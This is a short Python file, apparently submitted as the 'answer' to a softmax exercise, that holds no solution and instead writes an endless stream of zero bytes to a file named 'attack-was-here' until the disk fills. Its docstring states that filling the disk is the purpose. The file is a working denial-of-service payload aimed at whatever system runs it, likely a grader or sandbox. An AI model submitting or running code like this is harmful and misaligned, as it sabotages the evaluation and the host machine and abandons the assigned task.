"""Writes one file that fills the disk."""
# exercise: softmax
# where: answer
# status: any

with open("attack-was-here", "wb") as file:
    while True:
        file.write(bytes(10_000_000))
